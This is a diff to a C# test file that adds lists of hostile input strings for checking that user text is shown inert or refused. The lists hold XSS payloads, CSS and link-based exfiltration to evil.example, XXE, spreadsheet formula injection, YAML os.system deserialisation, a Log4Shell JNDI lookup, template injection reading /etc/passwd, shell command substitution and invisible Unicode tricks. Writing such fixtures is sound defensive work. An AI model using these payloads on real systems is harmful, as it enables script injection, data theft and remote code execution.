@@ -55,16 +55,86 @@ public static class HostileTexts
         "p\u0300\u0301\u0302\u0303\u0304\u0305wned", "x\u200Cpwned", "👩‍👩‍👧‍👦🎉pwned", "\uFDFApwned", "葛\U000E0100pwned", string.Concat(Enumerable.Repeat("pwned", 400)),
     ];
 
+    // What an element of another language or mode holds is read otherwise the second time.
+    private static readonly string[] Nested =
+    [
+        "<svg><foreignObject>" + Image + "</foreignObject></svg>", "<svg><a><animate attributeName=href values=javascript:pwned=1 /><text y=9>x</text></a></svg>",
+        "<svg></p><style><a id=\"</style><img src=x onerror=pwned=1>\">", "<form><math><mtext></form><form><mglyph><style></math>" + Image,
+        "<math><annotation-xml encoding=\"text/html\"><style>" + Image + "</style></annotation-xml></math>", "<xmp><p title=\"</xmp><img src=x onerror=pwned=1>\">",
+        "<div><template shadowrootmode=open>" + Image + "</template></div>", "<!-->" + Image + "-->", string.Concat(Enumerable.Repeat("<b>", 520)) + Image,
+        "<!--<script>pwned=1", "</script\t/x>" + Image,
+    ];
+
+    private static readonly string[] Events =
+    [
+        "<form id=x></form><button form=x formaction=javascript:pwned=1>x</button>", "<iframe src=\"javascript:parent.pwned=1\"></iframe>",
+        "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwned=1'/>\">", "<audio><source src=x onerror=pwned=1></audio>",
+        "<marquee onstart=pwned=1>x</marquee>", "<dialog open onclose=pwned=1><form method=dialog><button>x</button></form></dialog>",
+        "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=pwned=1>x</p>", "<p style=\"content-visibility:auto\" oncontentvisibilityautostatechange=pwned=1>x</p>",
+        "<style>@keyframes x{}</style><p style=\"animation:x 1s\" onanimationstart=pwned=1>x</p>", "<input type=hidden accesskey=x onclick=pwned=1>",
+        "<p contenteditable onpaste=pwned=1>x</p>",
+    ];
+
+    // No script of the page, but requests, rules and names that the page did not mean.
+    private static readonly string[] Loads =
+    [
+        "<a href=\"https://example.org/\" ping=\"https://evil.example/pwned\">x</a>", "<link rel=preload as=image imagesrcset=\"https://evil.example/pwned.png 1x\">",
+        "<link rel=dns-prefetch href=\"//pwned.evil.example/\">", "<link rel=manifest href=\"https://evil.example/pwned.json\">",
+        "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\">", "<meta name=referrer content=unsafe-url>",
+        "<script type=importmap>{\"imports\":{\"x\":\"https://evil.example/pwned.js\"}}</script>", "<script src=//evil.example/pwned.js></script>",
+        "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https://evil.example/pwned\"]}]}</script>", "<portal src=\"https://evil.example/pwned\"></portal>",
+        "<iframe sandbox=\"allow-scripts allow-top-navigation\" src=\"//evil.example/pwned\"></iframe>", "<a href=\"https://evil.example/pwned\" target=_blank rel=opener>x</a>",
+        "<img src='https://evil.example/pwned?", "<img name=body>", "<form id=x><input name=action><input name=attributes></form>", "__proto__", "constructor[prototype][pwned]=1",
+    ];
+
+    private static readonly string[] Styles =
+    [
+        "x;background:\\75rl(https://evil.example/pwned.png)", "x;behavior:url(https://evil.example/pwned.htc);-moz-binding:url(https://evil.example/pwned.xml#x)",
+        "}input[value^=a]{background:url(https://evil.example/pwned?a)}", "}@font-face{font-family:x;src:url(https://evil.example/pwnedA);unicode-range:U+A}",
+    ];
+
+    private static readonly string[] Disguises =
+    [
+        "+ADw-script+AD4-pwned=1+ADw-/script+AD4-", "ʺ onmouseover=ʺpwned=1ʺ x=ʺ", "<ſcript>pwned=1</ſcript>", "';onerror=eval;throw'=pwned\\x3d1",
+        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=pwned=1 )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=pwned=1//>\\x3e",
+        "blob:https://evil.example/pwned", "feed:javascript:pwned=1", "intent://evil.example/#Intent;scheme=https;package=pwned;end", "%6aavascript:pwned=1",
+        "javascript://%0apwned=1", "&#1;javascript:pwned=1", "https://example.org@evil.example/pwned", "https://xn--pple-43d.example/pwned", "/\\evil.example/pwned",
+        "x%0d%0aSet-Cookie:pwned=1", "%c0%ae%c0%ae/pwned",
+    ];
+
+    private static readonly string[] Formats =
+    [
+        "\",\"@context\":\"https://evil.example/pwned.jsonld\",\"x\":\"", "x\\nBEGIN:VALARM\\nACTION:PROCEDURE\\nATTACH:https://evil.example/pwned.exe\\nEND:VALARM",
+        "x\";ALTREP=\"https://evil.example/pwned\":x", "x^'^n^^pwned", string.Concat(Enumerable.Repeat("葛\U000E0100😀", 40)), "x\" xml:base=\"https://evil.example/",
+        "<xsl:value-of select=\"document('https://evil.example/pwned')\"/>", "<!DOCTYPE x [<!ENTITY % pwned SYSTEM \"https://evil.example/pwned.dtd\">%pwned;]>",
+        "<w:fldSimple w:instr='INCLUDEPICTURE \"https://evil.example/pwned.png\" \\d'/>", "_x003D_pwned()", " =pwned()", "＝cmd｜' /C pwned'！A0",
+        "=?utf-8?Q?x=0D=0ABcc:pwned?=",
+    ];
+
+    private static readonly string[] Notations =
+    [
+        "!!python/object/apply:os.system [pwned]", "*pwned", "<<: *pwned", "%TAG ! tag:evil.example,2024:", "[pwned]: javascript:pwned=1", "{#pwned .x onmouseover=pwned=1}",
+        "![x](/pwned.png){onerror=pwned=1}", "![[x](javascript:pwned=1)](javascript:pwned=1)", "$\\href{javascript:pwned=1}{x}$", "{% include \"/etc/passwd\" %}",
+        "<%= system('pwned') %>", "@((MarkupString)\"<script>pwned=1</script>\")", "{{{pwned}}}", "${jndi:ldap://evil.example/pwned}", "<!--#exec cmd=\"pwned\"-->",
+        "${{ github.token }}", "::set-output name=pwned::1", "$(touch pwned)", "`touch pwned`", string.Concat(Enumerable.Repeat("pwned.", 300)) + "@",
+        string.Concat(Enumerable.Repeat("*a_ ", 100)) + "pwned",
+    ];
+
     private static readonly string[] Invisible =
     [
         "x\u202Edenwp\u202Cx", "\u2066pwned\u2069\u2067x", "x\u061Cpwned", "x\u200E\u200Fpwned", "p\u200Bwned", "p\u2060wned", "x\uFEFFpwned", "p\u00ADwned",
         "x\uFFFEpwned\uFFFF", "x\uFDD0pwned", "x\u0001\u0002\u001B[31mpwned\u007F", "x\0pwned", "x\u0085pwned\u0085",
         "x\U000E0041\U000E0042pwned", "x\u2028pwned=1\u2029x", "<scr\0ipt>pwned=1</scr\0ipt>", "x\rATTACH:https://evil.example/pwned", "\r=pwned()", "\u0001javascript:pwned=1",
-        "x\fpwned",
+        "x\fpwned", "x\u180Epwned", "\u3164pwned", "x\uFFA0pwned", "x\uFFF9pwned\uFFFAx\uFFFB", "\u001B$@pwned\u001B(B",
     ];
 
     /// <summary>Texts that anybody may write: they must be read as they were written, and do nothing.</summary>
-    public static ImmutableArray<HostileText> Visible { get; } = Named('h', [.. Html, .. BreakOuts, .. Data, .. Addresses, .. Characters]);
+    public static ImmutableArray<HostileText> Visible { get; } = Named(
+        'h',
+        [
+            .. Html, .. BreakOuts, .. Data, .. Addresses, .. Characters,
+            .. Nested, .. Events, .. Loads, .. Styles, .. Disguises, .. Formats, .. Notations,
+        ]);
 
     /// <summary>Texts with characters that nobody sees: they must be refused.</summary>
     public static ImmutableArray<HostileText> Unseen { get; } = Named('u', Invisible);
